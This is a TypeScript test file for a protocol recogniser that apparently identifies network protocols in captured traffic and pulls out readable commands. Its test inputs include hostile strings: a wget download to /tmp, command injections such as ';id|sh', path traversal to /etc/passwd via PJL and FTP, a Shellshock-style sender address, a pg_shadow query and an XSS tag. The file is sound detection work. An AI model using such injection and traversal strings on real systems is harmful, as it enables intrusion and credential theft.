import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { isBinary, protocols, readableOf, recogniseProtocol } from '../../../src/score/protocol/index.ts';
import { greetings } from './greetings.ts';

const names = [...new Set(protocols.map(({ name }) => name))];
const binary = new Set(protocols.filter((protocol) => protocol.isBinary).map(({ name }) => name));

/** As Python and many sensors write bytes down. */
const escaped = (bytes: string): string =>
  [...bytes]
    .map((sign) =>
      sign < ' ' || sign > '~' || sign === '\\'
        ? `\\x${sign.charCodeAt(0).toString(16).padStart(2, '0')}`
        : sign,
    )
    .join('');

describe('protocols', () => {
  it('each have a greeting here', () => {
    assert.ok(names.length > 80);
    assert.deepEqual(names.toSorted(), Object.keys(greetings).toSorted());
  });

  for (const [name, list] of Object.entries(greetings)) {
    for (const { bytes, detail, probe, port = null, service = '' } of list)
      it(`${name} is recognised by ${JSON.stringify(bytes.slice(0, 24))}`, () => {
        const found = recogniseProtocol({ payload: bytes, port, service });
        assert.equal(found?.protocol, name);
        assert.match(found.what, /^[A-Z].*\.$/);
        if (detail !== undefined) assert.equal(found.detail, detail);
        assert.equal(found.probe, probe);
      });

    if (binary.has(name))
      it(`${name} is recognised however its bytes are written down`, () => {
        for (const { bytes, port = null, service = '' } of list) {
          if (bytes.length < 12 || !isBinary(bytes)) continue;
          const raw = Buffer.from(bytes, 'latin1');
          for (const payload of [
            escaped(bytes),
            `b'${escaped(bytes)}'`,
            raw.toString('hex'),
            raw.toString('base64'),
          ])
            assert.equal(recogniseProtocol({ payload, port, service })?.protocol, name, payload.slice(0, 60));
        }
      });
  }

  it('are no more than what is there: ordinary texts are none of them', () => {
    const texts = [
      'hello',
      'select * from users where id = 1',
      'The stats of the version are in the info file.',
      'GETTING STARTED with HTTP',
      '{"method":"login","user":"mara"}',
      'deadbeef',
      'cGxhaW4gd29yZHMgaW4gYmFzZTY0IQ==',
      'C:\\x\\temp\\notes.txt',
      '0123456789',
      'wget http://198.51.100.7/a -O /tmp/a',
    ];
    for (const payload of texts) assert.equal(recogniseProtocol({ payload }), null, payload);
    assert.equal(recogniseProtocol({ payload: '' }), null);
  });

  it('never throw, whatever the bytes: cut off, changed, random, oversize', () => {
    for (const list of Object.values(greetings))
      for (const { bytes } of list)
        for (let end = 0; end <= Math.min(bytes.length, 120); end += 1)
          recogniseProtocol({ payload: bytes.slice(0, end) });
    const heads = Object.values(greetings).flatMap((list) => list.map(({ bytes }) => bytes.slice(0, 16)));
    fc.assert(
      fc.property(
        fc.constantFrom('', ...heads),
        fc.uint8Array({ maxLength: 400 }),
        fc.boolean(),
        (head, tail, isEscaped) => {
          const bytes = head + Buffer.from(tail).toString('latin1');
          const found = recogniseProtocol({
            payload: isEscaped ? escaped(bytes) : bytes,
            port: tail[0] ?? null,
          });
          assert.ok((found?.detail ?? '').length <= 500);
          assert.ok(!/[^\x20-\x7e]/.test(found?.detail ?? ''));
        },
      ),
      { numRuns: 3000 },
    );
    for (const payload of [
      '\\',
      '\\x1',
      "b'",
      `b'${'\\x00'.repeat(50_000)}`,
      '0'.repeat(1_000_000),
      '\uffff\u0100'.repeat(10_000),
    ])
      recogniseProtocol({ payload });
  });

  it('keep bytes from being read as text, and words in them from being lost', () => {
    const hello = greetings.tls![0]!.bytes;
    assert.equal(readableOf(hello, recogniseProtocol({ payload: hello })), '');
    const query = `Q\0\0\0${String.fromCharCode(4 + 29)}select * from pg_shadow -- ${'\0'.repeat(2)}`;
    const found = recogniseProtocol({ payload: query });
    assert.equal(found?.protocol, 'postgresql');
    assert.match(readableOf(query, found), /^select \* from pg_shadow/);
    const request = 'GET /?q=<script>alert(1)</script> HTTP/1.1\r\n\r\n';
    assert.equal(readableOf(request, recogniseProtocol({ payload: request })), request);
    assert.equal(readableOf('plain words', null), 'plain words');
    const printed = (payload: string): string => readableOf(payload, recogniseProtocol({ payload }));
    assert.equal(printed('\x1b%-12345X@PJL INFO ID\r\n@PJL INFO STATUS\r\n\x1b%-12345X\r\n'), '');
    assert.equal(printed('@PJL ECHO DELIMITER58\r\n@PJL DINQUIRE COPIES\r\n'), '');
    for (const command of ['@PJL ECHO ;id|sh', '@PJL FSUPLOAD NAME="0:/../../etc/passwd" OFFSET=0 SIZE=900'])
      assert.equal(printed(`\x1b%-12345X${command}\r\n`), command);
    for (const talk of [
      'USER anonymous\nPASS anonymous@\nHELP\nFEAT\nAUTH TLS',
      'USER ftp\r\nPASS a@b.example\r\nTYPE I\r\nCWD /pub/images\r\nPASV\r\nQUIT\r\n',
      'EHLO [198.51.100.7]\r\nMAIL FROM:<mara@shop.example>\r\nRCPT TO:<lee@shop.example>\r\nDATA\r\n',
      'a1 LOGIN "mara" "bread"\r\na2 SELECT INBOX\r\n',
    ])
      assert.equal(printed(talk), '', talk);
    for (const told of ['RETR ../../etc/passwd', 'USER ;id|sh', 'MAIL FROM:<() { :;}; /bin/sh>'])
      assert.equal(printed(`USER a\r\n${told}\r\n`), told);
    assert.equal(isBinary('caf\u00e9 con leche, ma\u00f1ana'), false);
    assert.equal(isBinary('\u4f60\u597d, \u4e16\u754c'), false);
    assert.equal(isBinary('one stray \x01 sign in a longer text'), false);
    assert.equal(isBinary('\x01\x02\x03\x04\xff\xfe<script>'), true);
  });
});
